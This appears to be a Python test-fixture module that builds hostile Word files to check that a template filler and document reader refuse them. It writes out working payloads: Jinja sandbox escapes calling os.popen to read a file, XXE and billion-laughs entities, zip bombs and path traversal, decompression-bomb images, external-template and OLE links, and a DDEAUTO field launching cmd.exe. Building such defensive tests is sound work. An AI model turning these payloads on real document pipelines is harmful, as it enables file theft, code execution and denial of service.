"""Attacks that a Word file may carry, each as a change of a sound file: a template, a document or a form."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache

from toolkit.documents.package import CONTENT_TYPES, DOCUMENT_PART, read_package, write_package

END = "<w:sectPr"
RELATIONS = "word/_rels/document.xml.rels"
STYLES = "word/styles.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET = "Le-secret-du-canari"
"""What stands in the file that no attack may read."""


@dataclass(frozen=True, slots=True)
class Traps:
    """What an attack aims at: a file, an address, both watched."""

    file: str
    url: str


Change = Callable[[bytes, Traps], bytes]
"""What makes a hostile file of a sound one."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    Args:
        name: What it is, for the table.
        change: Makes a hostile file of a sound one.
        on_template: Whether whoever fills templates must refuse it.
        on_document: Whether whoever reads finished documents and forms must refuse it.
    """

    name: str
    change: Change
    on_template: bool = False
    on_document: bool = False


def refused(name: str, change: Change) -> Attack:
    """Return an attack that nobody may take."""
    return Attack(name, change, on_template=True, on_document=True)


def with_parts(docx: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Return ``docx`` with further parts, or others in their place."""
    return write_package(read_package(docx, about="x") | dict(parts))


def with_body(docx: bytes, xml: str) -> bytes:
    """Return ``docx`` with ``xml`` at the end of its body."""
    before = read_package(docx, about="x")[DOCUMENT_PART].decode()
    at = before.rindex(END)
    return with_parts(docx, {DOCUMENT_PART: (before[:at] + xml + before[at:]).encode()})


def said(text: str) -> str:
    """Return a paragraph that holds ``text``."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:p><w:r><w:t xml:space="preserve">{escaped}</w:t></w:r></w:p>'


def tags(*lines: str) -> Change:
    """Return the change that writes lines of a template at the end."""
    return lambda docx, traps: with_body(
        docx, "".join(said(line.replace("@FILE@", traps.file)) for line in lines)
    )


def body(xml: str) -> Change:
    """Return the change that adds WordprocessingML at the end."""
    return lambda docx, traps: with_body(docx, xml.replace("@FILE@", traps.file).replace("@URL@", traps.url))


def declared(part: str, doctype: str, entity: str = "&e;", encoding: str = "utf-8") -> Change:
    """Return the change that declares entities in one part, and uses one in an attribute or a text."""

    def change(docx: bytes, traps: Traps) -> bytes:
        xml = read_package(docx, about="x")[part].decode()
        if xml.startswith("<?xml"):
            xml = xml[xml.index("?>") + 2 :].lstrip()
        at = xml.rindex("</")
        own = doctype.replace("@FILE@", traps.file).replace("@URL@", traps.url)
        hostile = f'<?xml version="1.0" encoding="{encoding}"?>{own}{xml[:at]}{entity}{xml[at:]}'
        return with_parts(docx, {part: hostile.encode(encoding)})

    return change


def related(kind: str, target: str, xml: str = "") -> Change:
    """Return the change that adds an external relationship, and what uses it."""

    def change(docx: bytes, traps: Traps) -> bytes:
        parts = read_package(docx, about="x")
        relations = parts.get(
            RELATIONS,
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"</Relationships>",
        ).decode()
        aim = target.replace("@FILE@", traps.file).replace("@URL@", traps.url)
        own = f'<Relationship Id="rIdHostile" Type="{OFFICE}/{kind}" Target="{aim}" TargetMode="External"/>'
        relations = relations.replace("</Relationships>", f"{own}</Relationships>")
        return with_parts(with_body(docx, xml) if xml else docx, {RELATIONS: relations.encode()})

    return change


def attached_template(docx: bytes, traps: Traps) -> bytes:
    """Let the settings name a template elsewhere, as a document from a share does."""
    w_ns = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    settings = (
        f'<w:settings xmlns:w="{w_ns}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
        f'Target="{traps.url}/t.dotm" TargetMode="External"/></Relationships>'
    )
    parts = {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": relation.encode()}
    return with_parts(docx, parts)


def picture(made: Callable[[], bytes], suffix: str) -> Change:
    """Return the change that puts a picture into the text."""

    def change(docx: bytes, traps: Traps) -> bytes:
        del traps
        content = made()
        parts = read_package(docx, about="x")
        types = parts[CONTENT_TYPES].decode()
        if f'Extension="{suffix}"' not in types:
            kind = {"svg": "svg+xml", "jpg": "jpeg"}.get(suffix, suffix)
            default = f'<Default Extension="{suffix}" ContentType="image/{kind}"/>'
            types = types.replace("</Types>", f"{default}</Types>")
        relation = f'<Relationship Id="rIdPicture" Type="{OFFICE}/image" Target="media/hostile.{suffix}"/>'
        relations = (
            parts[RELATIONS].decode()
            if RELATIONS in parts
            else (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                "</Relationships>"
            )
        )
        return with_parts(
            with_body(docx, drawn("rIdPicture")),
            {
                CONTENT_TYPES: types.encode(),
                RELATIONS: relations.replace("</Relationships>", f"{relation}</Relationships>").encode(),
                f"word/media/hostile.{suffix}": content,
            },
        )

    return change


def drawn(relation: str, use: str = "embed") -> str:
    """Return a paragraph with an inline picture."""
    main = "http://schemas.openxmlformats.org/drawingml/2006/main"
    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing" distT="0" distB="0" distL="0" distR="0"><wp:extent cx="900000" cy="900000"/>'
        '<wp:docPr id="77" name="Image" descr="Image"/>'
        f'<a:graphic xmlns:a="{main}"><a:graphicData uri="{pic}">'
        f'<pic:pic xmlns:pic="{pic}"><pic:nvPicPr><pic:cNvPr id="0" name="i"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{OFFICE}" r:{use}="{relation}"/>'
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )


@cache
def giant_png(side: int = 60_000) -> bytes:
    """Return a PNG of ``side`` by ``side`` white pixels: 14 GB once decoded in 32 bits, some KB as a file."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    deflater = zlib.compressobj(9)
    line = b"\x00" + b"\xff" * ((side + 7) // 8)
    data = b"".join(deflater.compress(line) for _ in range(side)) + deflater.flush()
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    )


@cache
def texted_png(megabytes: int = 300) -> bytes:
    """Return a PNG of one pixel whose compressed text inflates to ``megabytes``."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    deflater = zlib.compressobj(9)
    text = b"".join(deflater.compress(bytes(2**20)) for _ in range(megabytes)) + deflater.flush()
    chunks = (
        (b"IHDR", header),
        (b"zTXt", b"Comment\x00\x00" + text),
        (b"iCCP", b"x\x00\x00" + text),
        (b"IDAT", zlib.compress(b"\x00\xff")),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in chunks
    )


@cache
def giant_jpeg(side: int = 65_000) -> bytes:
    """Return a JPEG that announces ``side`` by ``side`` pixels and holds hardly any."""
    quantisation = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", side, side) + b"\x01\x01\x11\x00"
    codes = b"\xff\xc4\x00\x14\x00" + bytes([1] + [0] * 15) + b"\x00"
    alternate = b"\xff\xc4\x00\x14\x10" + bytes([1] + [0] * 15) + b"\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(1000) + b"\xff\xd9"
    return b"\xff\xd8" + quantisation + frame + codes + alternate + scan


def hostile_svg(traps: Traps) -> bytes:
    """Return an SVG that asks for a file, an address, and much memory."""
    entities = "".join(f'<!ENTITY {chr(98 + n)} "' + f"&{chr(97 + n)};" * 10 + '">' for n in range(9))
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">{entities}'
        f'<!ENTITY canary SYSTEM "file://{traps.file}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="100000" height="100000">'
        f'<image xlink:href="{traps.url}/i.png" width="9" height="9"/>'
        f'<image href="file://{traps.file}" width="9" height="9"/>'
        "<text>&j;&canary;</text></svg>"
    ).encode()


def svg(docx: bytes, traps: Traps) -> bytes:
    """Put the hostile SVG into the text."""
    return picture(lambda: hostile_svg(traps), "svg")(docx, traps)


def zip_of(entries: Mapping[str, bytes], *, level: int = 9) -> bytes:
    """Return a zip as any program writes it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb(name: str, size: int) -> Change:
    """Return the change that adds a part of zeros."""
    return lambda docx, _: zip_of(read_package(docx, about="x") | {name: bytes(size)})


def many_entries(docx: bytes, traps: Traps) -> bytes:
    """Add fifty thousand empty parts."""
    del traps
    return zip_of(
        read_package(docx, about="x") | {f"word/e{number}.xml": b"" for number in range(50_000)}, level=1
    )


def lying(docx: bytes, traps: Traps) -> bytes:
    """Announce a body of ten bytes in the directory and in the entry."""
    del traps
    size = len(read_package(docx, about="x")[DOCUMENT_PART])
    content = zip_of(read_package(docx, about="x"))
    return content.replace(struct.pack("<I", size), struct.pack("<I", 10))


def overlapping(docx: bytes, traps: Traps) -> bytes:
    """Let three hundred entries share the same compressed bytes, as the best zip bombs do."""
    del traps
    parts = read_package(docx, about="x") | {"word/media/a.bin": bytes(2**20)}
    content = zip_of(parts)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        victim = archive.getinfo("word/media/a.bin")
    end = content.rindex(b"PK\x05\x06")
    start, count = struct.unpack("<I", content[end + 16 : end + 20])[0], len(parts)
    entry = b"".join(
        struct.pack(
            *("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 8, 0, 0, victim.CRC),
            *(victim.compress_size, victim.file_size, 16, 0, 0, 0, 0, 0, victim.header_offset),
        )
        + f"word/media/a{number:03}".encode()
        + b"b"
        for number in range(300)
    )
    directory = content[start:end] + entry
    return (
        content[:start]
        + directory
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 300, count + 300, len(directory), start, 0)
    )


def replaced(xml: str) -> Change:
    """Return the change that writes ``xml`` in the place of the whole body part."""
    return lambda docx, _: zip_of(read_package(docx, about="x") | {DOCUMENT_PART: xml.encode()})


def numbered(count: int) -> Change:
    """Return the change that adds paragraphs that no ratio gives away."""
    chance = random.Random(0)  # noqa: S311 - the same text each time
    return lambda docx, _: with_body(docx, "".join(said(f"{chance.random()}") for _ in range(count)))


def nested(depth: int) -> str:
    """Return tables within tables."""
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def flipped(seed: int) -> Change:
    """Return the change that turns one bit of ten bytes of the parts, or of the zip itself."""

    def change(docx: bytes, traps: Traps) -> bytes:
        del traps
        chance = random.Random(seed)  # noqa: S311 - the same flips each time
        if seed % 2:
            content = bytearray(docx)
            for _ in range(10):
                content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
            return bytes(content)
        parts = read_package(docx, about="x")
        name = chance.choice([n for n in parts if n.endswith((".xml", ".rels"))])
        part = bytearray(parts[name])
        for _ in range(10):
            part[chance.randrange(len(part))] ^= 1 << chance.randrange(8)
        return write_package(parts | {name: bytes(part)})

    return change


def laughs(entity: str = "lol") -> str:
    """Return the declarations of a billion laughs, ending in ``e``."""
    names = "abcdfghijk"
    more = "".join(f'<!ENTITY {names[n + 1]} "' + f"&{names[n]};" * 10 + '">' for n in range(len(names) - 1))
    return f'<!DOCTYPE x [<!ENTITY a "{entity}">{more}<!ENTITY e "&k;">]>'


QUADRATIC = '<!DOCTYPE x [<!ENTITY a "' + "a" * 100_000 + '">]>'
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@FILE@">]>'
XXE_URL = '<!DOCTYPE x [<!ENTITY e SYSTEM "@URL@/x">]>'
DTD = '<!DOCTYPE x SYSTEM "@URL@/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "@URL@/p.dtd"> %p;]>'


def field(instruction: str) -> str:
    """Return a field of Word, with what it last showed."""
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>vu</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def use(element: str) -> str:
    """Return an element that names the hostile relationship."""
    return f'<w:{element} xmlns:r="{OFFICE}" r:id="rIdHostile"/>'


_ESCAPES = (
    "{{ lipsum.__globals__['os'].popen('cat @FILE@').read() }}",
    "{{ cycler.__init__.__globals__.os.system('cat @FILE@') }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ due.__class__ }}",
    "{{ due|attr('__class__') }}",
    "{{ due['__class__'] }}",
    "{{ '{0.__class__}'.format(due) }}",
    "{% include '@FILE@' %}",
    "{% import '@FILE@' as x %}{{ x }}",
    "{% extends '@FILE@' %}",
    "{% set x = namespace(a=1) %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% call due() %}{% endcall %}",
    "{% raw %}{{ x }}",
    "{% filter upper %}x{% endfilter %}",
    "{% block a %}{% endblock %}",
)
_GIANTS = (
    "{{ 'a' * 200000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ ('a' * 99999)|center(999999999) }}",
    "{{ '%0999999999d' % 1 }}",
    "{{ range(999999999)|list }}",
    "{{ [1] * 999999999 }}",
    "{{ 'a' ~ 'b' }}",
    "{{ due|indent(999999999) }}",
    "{{ " + "9" * 5_000 + " }}",
)
_LOOPS = (
    ["{% for a in xs %}"] * 6 + ["{{ a }}"] + ["{% endfor %}"] * 6,
    ["{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}"],
    ["{% for a in xs recursive %}{{ loop(xs) }}{% endfor %}"],
)
_QUADRATIC: dict[str, Change] = {
    "{% × 8 000": tags("{%" * 8_000),
    "{{tr × 4 000": tags("{{tr" * 4_000),
    "{{ × 1 999 without end": tags("{{ " * 1_999),
    "3 000 tags": tags("{{ due }}" * 3_000),
    "1 900 tags in one paragraph, 1 MB apart": tags(("{{ due }}" + " " * 500) * 1_900),
    "a tag of a megabyte": tags("{{ a" + "a" * 1_000_000 + " }}"),
    "brackets × 3 000": tags("{{ " + "(" * 3_000 + "due" + ")" * 3_000 + " }}"),
    "if × 900 deep": tags(*["{% if due %}"] * 900, *["{% endif %}"] * 900),
    "not × 5 000": tags("{% if " + "not " * 5_000 + "due %}{% endif %}"),
    "dots × 5 000": tags("{{ due" + ".a" * 5_000 + " }}"),
    "tags in 60 000 attributes": body('<w:p w:x="{{r "/>' * 60_000),
    "tags without end in 20 000 attributes": body('<w:p w:x="{%tr "/>' * 20_000),
    "tags in 20 000 comments": body("<!-- {{r -->" * 20_000),
    "braces × 300 000": tags("{" * 300_000),
    "braces apart × 100 000": body("<w:r><w:t>{</w:t></w:r>" * 100_000),
    "3 000 000 letters after 1 999 tags": tags("{{r x " * 1_999 + "x" * 3_000_000),
    "700 000 tags left open": tags("{{" * 700_000),
    "colspan and 3 000 blanks": body(
        f"<w:tbl><w:tr><w:tc>{said('{% colspan ' + ' ' * 3_000 + '% %}')}</w:tc></w:tr></w:tbl>"
    ),
    "30 000 empty paragraphs and a new line": body("<w:p w:a='1'/>" * 30_000 + "\n"),
    "rows × 60 000": body("<w:tr w:a='1'/>" * 60_000),
}

_TYPST = (
    '"); #read("@FILE@")',
    '#import "@preview/cetz:0.3.4"',
    '#image("@FILE@")',
    "\\u{41} $x$ `a` *b* #panic() ]#eval",
)
_PARTS = (DOCUMENT_PART, STYLES, "docProps/core.xml", "[Content_Types].xml", "word/theme/theme1.xml")
_XML = {
    "billion laughs": (laughs(), "&e;"),
    "quadratic entities": (QUADRATIC, "&a;" * 5_000),
    "XXE file": (XXE, "&e;"),
    "XXE address": (XXE_URL, "&e;"),
    "DTD elsewhere": (DTD, ""),
    "parameter entity": (PARAMETER, ""),
}

ATTACKS = (
    *(Attack(f"sandbox: {line[:40]}", tags(line), on_template=True) for line in _ESCAPES),
    *(Attack(f"giant: {line[:40]}", tags(line), on_template=True) for line in _GIANTS),
    *(Attack(f"loops: {lines[0][:40]}", tags(*lines), on_template=True) for lines in _LOOPS),
    *(Attack(f"quadratic: {name}", change) for name, change in _QUADRATIC.items()),
    *(
        refused(f"XML: {name} in {part}", declared(part, doctype, entity))
        for name, (doctype, entity) in _XML.items()
        for part in _PARTS
    ),
    refused("XML: XXE in UTF-16", declared(DOCUMENT_PART, XXE, encoding="utf-16")),
    refused("XML: XXE in UTF-16 styles", declared(STYLES, XXE, encoding="utf-16")),
    refused("XML: depth 100 000", body("<w:ins>" * 100_000 + "</w:ins>" * 100_000)),
    Attack("XML: tables nested 60 deep", body(nested(60))),
    Attack("XML: an attribute of 3 MB", body(f'<w:p w:x="{"a" * 3_000_000}"/>')),
    Attack("XML: 100 000 attributes", body("<w:p " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>")),
    refused("zip: 128 MB of zeros", bomb("word/media/a.bin", 2**27)),
    refused("zip: 20 MB of zeros in XML", bomb("word/header9.xml", 20 * 2**20)),
    refused("zip: 50 000 entries", many_entries),
    refused("zip: a size that lies", lying),
    refused("zip: entries that overlap", overlapping),
    Attack("zip: climbs out", lambda docx, _: with_parts(docx, {"../../../tmp/out.xml": b"<a/>"})),
    refused("size: 1.5 million paragraphs", body("<w:p/>" * 1_500_000)),
    Attack("size: 600 000 paragraphs, under the cap", body("<w:p/>" * 600_000)),
    Attack("size: 60 000 paragraphs with text", body("<w:p><w:r><w:t>mot</w:t></w:r></w:p>" * 60_000)),
    Attack("size: 400 000 words in one paragraph", tags("mot " * 400_000)),
    Attack("size: a word of 2 million letters", tags("x" * 2_000_000)),
    Attack("size: 60 000 paragraphs, all different", numbered(60_000)),
    Attack("size: 20 000 paragraphs, all different", numbered(20_000)),
    Attack(
        "size: 40 000 cells in a row", body(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 40_000}</w:tr></w:tbl>")
    ),
    Attack("outside: attachedTemplate", attached_template),
    Attack("outside: linked picture", related("image", "@URL@/i.png", drawn("rIdHostile", "link"))),
    Attack("outside: linked picture, file", related("image", "file://@FILE@", drawn("rIdHostile", "link"))),
    Attack("outside: embedded picture elsewhere", related("image", "@URL@/i.png", drawn("rIdHostile"))),
    Attack("outside: subDocument", related("subDocument", "@URL@/s.docx", use("subDoc"))),
    Attack("outside: altChunk", related("aFChunk", "@URL@/a.html", use("altChunk"))),
    Attack("outside: OLE link", related("oleObject", "@URL@/o.xls")),
    Attack("outside: frame", related("frame", "@URL@/f.docx")),
    Attack("outside: INCLUDETEXT file", body(field('INCLUDETEXT "@FILE@"'))),
    Attack("outside: INCLUDETEXT address", body(field('INCLUDETEXT "@URL@/t.docx"'))),
    Attack("outside: INCLUDEPICTURE", body(field('INCLUDEPICTURE "@URL@/i.png" \\d'))),
    Attack("outside: DDEAUTO", body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))),
    Attack("outside: LINK", body(field('LINK Excel.Sheet.8 "@URL@/x.xls" "A1" \\a'))),
    Attack("Typst: code in the text", tags(*_TYPST)),
    Attack("font: letters that no face has", tags("\U00012000 \u4e00 \ue123 \U0001f600 \u0e01")),
    Attack("picture: PNG of 3.6 billion pixels", picture(giant_png, "png")),
    Attack("picture: PNG with 300 MB of text", picture(texted_png, "png")),
    Attack("picture: JPEG of 4.2 billion pixels", picture(giant_jpeg, "jpg")),
    Attack("picture: SVG that asks and laughs", svg),
    Attack("picture: EMF of noise", picture(lambda: b"\x01\x00\x00\x00" + bytes(range(256)) * 40, "emf")),
    *(Attack(f"flips: seed {seed}", flipped(seed)) for seed in range(24)),
)
"""Every attack that Word files are put to."""
